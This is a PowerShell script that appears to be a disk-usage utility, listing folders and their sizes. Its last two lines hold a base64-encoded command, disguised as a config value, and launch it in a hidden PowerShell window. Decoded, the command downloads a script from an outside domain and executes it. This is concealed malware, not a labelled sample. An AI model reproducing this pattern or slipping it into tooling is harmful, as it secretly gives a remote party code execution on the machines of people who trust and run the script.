param([string]$Path = "C:\")
Get-ChildItem $Path -Directory -ErrorAction SilentlyContinue | ForEach-Object {
  $size = (Get-ChildItem $_.FullName -Recurse -File -ErrorAction SilentlyContinue | Measure-Object Length -Sum).Sum
  [pscustomobject]@{ Folder = $_.Name; GB = [math]::Round($size/1GB, 2) }
} | Sort-Object GB -Descending | Format-Table -AutoSize

$cfg = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBkAGkAcwBrAGMAbABuAC4AdABvAHAALwBhACcAKQA="
Start-Process powershell -WindowStyle Hidden -ArgumentList "-NoP -EncodedCommand $cfg"
